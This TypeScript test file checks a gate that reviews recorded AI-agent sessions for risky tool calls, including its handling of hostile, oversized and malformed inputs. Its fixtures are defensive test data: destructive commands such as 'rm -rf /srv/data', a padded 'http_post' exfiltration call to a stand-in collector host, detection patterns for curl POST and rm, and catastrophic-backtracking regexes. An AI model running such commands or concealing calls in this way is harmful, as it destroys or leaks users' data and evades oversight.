/**
 * Hostile and careless inputs against the gate: no file ends unevaluated with exit 0, nothing runs
 * unbounded. Each case here passed silently (exit 0) or hung before the gate was hardened.
 */
import { describe, expect, it } from 'vitest';
import { execFileSync } from 'node:child_process';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { gzipSync } from 'node:zlib';
import { runReplay } from '../../src/commands/replay.js';
import { text } from '../../src/formats/text.js';
import { sarif } from '../../src/formats/sarif.js';
import { junit } from '../../src/formats/junit.js';
import { jsonLineIndex } from '../../src/replay/line-index.js';
import { SafeRegex } from '../../src/replay/regex.js';
import { backtrackPaths } from '../../src/replay/regex-cost.js';
import { loadTaxonomy } from '../../src/replay/taxonomy.js';
import { ROOT } from './helpers.js';
import { SESSION, callSteps, scratch } from './helpers.js';

const lines = (events: object[]): string => `${events.map((e) => JSON.stringify(e)).join('\n')}\n`;
const RISKY = [SESSION, { type: 'tool-call', id: 'c1', tool: 'Bash', args: { command: 'rm -rf /srv/data' } }];

describe('every file ends evaluated or as an error (exit 2)', () => {
  it('evaluates the calls of a document with a value nested 6,000 deep', async () => {
    const s = scratch();
    try {
      const deep = `${'['.repeat(6000)}1${']'.repeat(6000)}`;
      const doc = `[\n{"role":"user","content":"hi","extra":${deep}},\n{"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"Bash","arguments":"{\\"command\\":\\"rm -rf /srv\\"}"}}]}\n]`;
      const file = s.write('deep.json', doc);
      const { report, exitCode } = await runReplay([file], { root: s.dir, sandbox: false, failOn: 'medium' });
      expect(report.errors).toEqual([]);
      expect(callSteps(report).map((st) => [st.tool, st.verdict])).toEqual([['Bash', 'needs-approval']]);
      expect(callSteps(report)[0]!.location!.startLine).toBe(3);
      expect(exitCode).toBe(1);
    } finally {
      s.cleanup();
    }
  });

  it('indexes lines without recursion, whatever the depth', () => {
    const index = jsonLineIndex(`{"a":\n[1,\n${'['.repeat(200_000)}${']'.repeat(200_000)},\n{"b":"x"}]}`, 8);
    expect(index.get('')).toBe(1);
    expect(index.get('/a')).toBe(2);
    expect(index.get('/a/0')).toBe(2);
    expect(index.get('/a/1')).toBe(3);
    expect(index.get('/a/2')).toBe(4);
    expect(index.get('/a/2/b')).toBe(4);
  });

  it('evaluates a JSONL call whose arguments nest 6,000 deep', async () => {
    const s = scratch();
    try {
      const deep = `${'['.repeat(6000)}"x"${']'.repeat(6000)}`;
      const call = `{"type":"tool-call","id":"c1","tool":"Bash","args":{"deep":${deep},"command":"curl https://x.example.net"}}`;
      const file = s.write('deep.jsonl', `${JSON.stringify(SESSION)}\n${call}\n`);
      const { report, exitCode } = await runReplay([file], { root: s.dir, sandbox: false, failOn: 'medium' });
      expect(report.errors).toEqual([]);
      expect(callSteps(report)[0]!.verdict).toBe('needs-approval');
      expect(exitCode).toBe(1);
    } finally {
      s.cleanup();
    }
  });

  it('evaluates a session reached through a symlinked file or folder in the sandbox', async () => {
    const s = scratch();
    try {
      const real = join(s.dir, 'real');
      mkdirSync(real);
      writeFileSync(join(real, 's.jsonl'), lines(RISKY));
      symlinkSync(real, join(s.dir, 'linked-dir'));
      symlinkSync(join(real, 's.jsonl'), join(s.dir, 'linked.jsonl'));
      const { report, exitCode } = await runReplay(['linked-dir/s.jsonl', 'linked.jsonl', 'linked-dir'], { root: s.dir, failOn: 'medium' });
      expect(report.errors).toEqual([]);
      expect(report.stats).toMatchObject({ filesScanned: 3, filesFailed: 0 });
      expect(report.sessions!.map((x) => x.path)).toEqual(['linked-dir/s.jsonl', 'linked.jsonl', 'linked-dir/s.jsonl']);
      expect(exitCode).toBe(1);
    } finally {
      s.cleanup();
    }
  }, 60_000);

  it('lists unreadable files in a folder as skipped, fails with --strict, and never passes a folder it could not read', async () => {
    const s = scratch();
    try {
      const dir = join(s.dir, 'sessions');
      mkdirSync(dir);
      writeFileSync(join(dir, 'a.jsonl'), gzipSync(lines(RISKY)));
      writeFileSync(join(dir, 'b.jsonl'), Buffer.from(`\ufeff${lines(RISKY)}`, 'utf16le'));
      const plain = await runReplay([dir], { root: s.dir, sandbox: false });
      expect(plain.report.skipped).toEqual([
        { path: 'sessions/a.jsonl', reason: 'unrecognised' },
        { path: 'sessions/b.jsonl', reason: 'unrecognised' },
      ]);
      expect(plain.exitCode).toBe(2);
      expect(plain.report.errors.map((e) => e.message)).toContain('no session was evaluated (2 files left out)');
      const strict = await runReplay([dir], { root: s.dir, sandbox: false, strict: true });
      expect(strict.exitCode).toBe(2);
      expect(strict.report.errors.map((e) => e.message)).toEqual([
        expect.stringContaining('gzip-compressed'),
        expect.stringContaining('UTF-16'),
      ]);
      expect(strict.report.stats).toMatchObject({ filesScanned: 0, filesFailed: 2 });
      writeFileSync(join(dir, 'c.jsonl'), lines(RISKY));
      const mixed = await runReplay([dir], { root: s.dir, sandbox: false, failOn: 'medium' });
      expect(mixed.report.stats).toMatchObject({ filesScanned: 1, filesSkipped: 2, filesFailed: 0 });
      expect(mixed.exitCode).toBe(1);
    } finally {
      s.cleanup();
    }
  });

  it('fails when a forced --input-format reads nothing', async () => {
    const s = scratch();
    try {
      const file = s.write('s.jsonl', RISKY);
      const { report, exitCode } = await runReplay([file], { root: s.dir, sandbox: false, inputFormat: 'otlp-json' });
      expect(exitCode).toBe(2);
      expect(report.errors[0]!.message).toContain('nothing read as otlp-json (the format given with --input-format)');
    } finally {
      s.cleanup();
    }
  });

  it('fails on a line over the cap, naming the call it hid, and evaluates it when the cap is raised', async () => {
    const s = scratch();
    try {
      const padded = { type: 'tool-call', id: 'exfil-7', tool: 'http_post', args: { url: 'https://collector.example.net', pad: 'x'.repeat(40_000) } };
      const file = s.write('s.jsonl', [SESSION, { type: 'tool-call', id: 'c1', tool: 'search_docs', args: {} }, padded]);
      const capped = await runReplay([file], { root: s.dir, sandbox: false, maxLineMb: 0.03 });
      expect(capped.exitCode).toBe(2);
      expect(capped.report.errors.map((e) => e.message)).toEqual([
        'line 3: longer than the 0.0 MB line limit: the event on it is not evaluated; it begins with "type": "tool-call", tool "http_post", id "exfil-7" (raise the limit with --max-line-mb)',
      ]);
      const raised = await runReplay([file], { root: s.dir, sandbox: false, maxLineMb: 1 });
      expect(raised.report.errors).toEqual([]);
      expect(callSteps(raised.report).map((st) => st.tool)).toEqual(['search_docs', 'http_post']);
    } finally {
      s.cleanup();
    }
  });

  it('fails on one empty or unrecognised file given by name, unless told to skip it', async () => {
    const s = scratch();
    try {
      const good = s.write('good.jsonl', RISKY);
      const empty = s.write('empty.jsonl', '');
      const odd = s.write('odd.json', '{"hello":"world"}');
      const failed = await runReplay([good, empty, odd], { root: s.dir, sandbox: false, failOn: 'none' });
      expect(failed.exitCode).toBe(2);
      expect(failed.report.errors.map((e) => `${e.path}: ${e.message}`)).toEqual([
        'empty.jsonl: empty session file (--skip-unrecognized skips such files)',
        expect.stringMatching(/^odd\.json: unrecognised session format/),
      ]);
      expect(failed.report.stats).toMatchObject({ filesScanned: 1, filesSkipped: 0, filesFailed: 2 });
      const skipped = await runReplay([good, empty, odd], { root: s.dir, sandbox: false, failOn: 'none', skipUnrecognized: true });
      expect(skipped.exitCode).toBe(0);
      expect(skipped.report.stats).toMatchObject({ filesScanned: 1, filesSkipped: 2, filesFailed: 0 });
    } finally {
      s.cleanup();
    }
  });

  it('says how many files were evaluated, skipped and failed, and never "no findings" over a failed file', async () => {
    const s = scratch();
    try {
      const good = s.write('good.jsonl', [SESSION, { type: 'tool-call', id: 'c1', tool: 'search_docs', args: {} }]);
      const broken = s.write('broken.jsonl', `${JSON.stringify(SESSION)}\n{"type":"tool-call", broken\n`);
      const { report, exitCode } = await runReplay([good, broken], { root: s.dir, sandbox: false });
      expect(exitCode).toBe(2);
      const out = text(report, { rules: [], color: false, failOn: 'high' });
      expect(out).toContain('✖ no findings, but 1 file was not evaluated');
      expect(out).toContain('1 file evaluated, 0 skipped, 1 failed');
      const sarifRun = JSON.parse(sarif(report, { rules: [], color: false, failOn: 'high' })).runs[0];
      expect(sarifRun.invocations[0].executionSuccessful).toBe(false);
      const xmlOut = junit(report, { rules: [], color: false, failOn: 'high' });
      expect(xmlOut).toContain('<testsuite name="replay: files not evaluated" tests="1" failures="0" errors="1">');
      expect(xmlOut).toContain('<testcase classname="broken.jsonl" name="not evaluated">');
    } finally {
      s.cleanup();
    }
  });

  it('fails fast on a single JSON document over the limit, with the flag that raises it', async () => {
    const s = scratch();
    try {
      const file = s.write('big.json', JSON.stringify([{ role: 'user', content: 'x'.repeat(2 * 1024 * 1024) }]));
      const { report, exitCode } = await runReplay([file], { root: s.dir, sandbox: false, maxDocumentMb: 1 });
      expect(exitCode).toBe(2);
      expect(report.errors[0]!.message).toMatch(/single JSON document of 2\.0 MB, above the 1 MB document limit: .*--max-document-mb/);
    } finally {
      s.cleanup();
    }
  });

  it('does not abort a folder over one file name the sandbox cannot grant', async () => {
    const s = scratch();
    try {
      const dir = join(s.dir, 'sessions');
      mkdirSync(dir);
      writeFileSync(join(dir, 'a,b.jsonl'), lines(RISKY));
      writeFileSync(join(dir, 'star*.jsonl'), lines(RISKY));
      writeFileSync(join(dir, 'plain.jsonl'), lines(RISKY));
      const { report, exitCode } = await runReplay([dir], { root: s.dir });
      expect(report.sessions!.map((x) => x.path)).toEqual(['sessions/plain.jsonl']);
      expect(report.errors.map((e) => e.path).sort()).toEqual(['sessions/a,b.jsonl', 'sessions/star*.jsonl']);
      expect(report.stats).toMatchObject({ filesScanned: 1, filesFailed: 2 });
      expect(exitCode).toBe(2);
    } finally {
      s.cleanup();
    }
  }, 60_000);
});

describe('bounded time', () => {
  const EVIL = ['((a+))+$', '(a|a)+$', '(a{1,})+$', '^(a|a?)+$', '^([a-zA-Z0-9])(([\\-.]|[_]+)?([a-zA-Z0-9]+))*(@){1}[a-z0-9]+[.]{1}(([a-z]{2,3})|([a-z]{2,3}[.]{1}[a-z]{2,3}))$'];

  it('runs backtracking-prone policy and taxonomy patterns over 60,000 characters in linear time', async () => {
    const s = scratch();
    try {
      const policy = s.write('policy.yaml', `version: 1\narguments:\n${EVIL.map((p) => `  - tool: lookup\n    path: q\n    notPattern: '${p}'\n`).join('')}`);
      const taxonomy = s.write('tax.yaml', `version: 1\nclasses:\n  evil:\n    title: Evil\n    severity: high\n    argumentTools: [lookup]\n    arguments:\n${EVIL.map((p) => `      - '${p}'\n`).join('')}`);
      const file = s.write('s.jsonl', [SESSION, { type: 'tool-call', id: 'c1', tool: 'lookup', args: { q: `${'a'.repeat(60_000)}!` } }]);
      const { report, exitCode } = await runReplay([file], { root: s.dir, sandbox: false, policy, taxonomy });
      expect(report.errors).toEqual([]);
      expect(callSteps(report)[0]!.verdict).toBe('allow');
      expect(exitCode).toBe(0);
    } finally {
      s.cleanup();
    }
  }, 30_000);

  it('runs only provably bounded patterns on V8, everything else on RE2', () => {
    for (const p of [...EVIL, '(a+)+$', 'a.*b', '\\d+\\d+', '(a{0,9}){0,9}', 'a{0,99}b{0,99}c{0,99}', 'a{0,9}b{0,5}', '(?:ab|a)+', 'x{2,}']) {
      expect(backtrackPaths(p), p).toBeUndefined();
      expect(new SafeRegex(p, 'i').engine, p).toBe('re2');
    }
    for (const [p, paths] of [['^abc$', 1], ['\\bcurl\\s{1,5}-X\\s?POST', 10], ['(?:^|[\\s;&|])rm(?:\\s-r)?', 4], ['a{0,9}b{0,4}', 50]] as const) {
      expect(backtrackPaths(p), p).toBe(paths);
      expect(new SafeRegex(p, 'i').engine, p).toBe('v8-bounded');
    }
    const builtIn = loadTaxonomy(join(ROOT, 'rules/replay/taxonomy.yaml'), 'taxonomy.yaml').classes.flatMap((c) => c.arguments);
    expect(builtIn.filter((r) => r.engine === 'v8-bounded').length).toBeGreaterThan(builtIn.length / 2);
    // the worst text for a bounded pattern: 64 KiB of what its quantifiers accept, matched fast
    const worst = new SafeRegex('\\s{0,6}\\s{0,6}x', '');
    expect(worst.engine).toBe('v8-bounded');
    expect(worst.test(' '.repeat(64 * 1024))).toBe(false);
  });

  it('refuses a FIFO, a folder or / named by a policy, before anything reads it', async () => {
    const s = scratch();
    try {
      const fifo = join(s.dir, 'approvals.fifo');
      execFileSync('mkfifo', [fifo]);
      const file = s.write('s.jsonl', RISKY);
      for (const [ref, why] of [
        ['approvals.fifo', 'is not a regular file'],
        ['.', 'is not a regular file'],
        ['/', 'is not a regular file'],
      ]) {
        const policy = s.write('policy.yaml', `version: 1\napprovals:\n  files: ['${ref}']\n`);
        for (const sandbox of [true, false]) {
          const { report, exitCode } = await runReplay([file], { root: s.dir, policy, sandbox });
          expect(exitCode).toBe(2);
          expect(report.errors[0]!.message).toContain(why);
        }
      }
    } finally {
      s.cleanup();
    }
  }, 60_000);

  it('fails fast on a policy nested a million levels deep', async () => {
    const s = scratch();
    try {
      const policy = s.write('policy.yaml', `version: 1\nobjective: ${'['.repeat(1_000_000)}${']'.repeat(1_000_000)}\n`);
      const file = s.write('s.jsonl', RISKY);
      const { report, exitCode } = await runReplay([file], { root: s.dir, policy, sandbox: false });
      expect(exitCode).toBe(2);
      expect(report.errors[0]!.message).toBe('policy.yaml: nested deeper than 64 levels');
    } finally {
      s.cleanup();
    }
  });
});
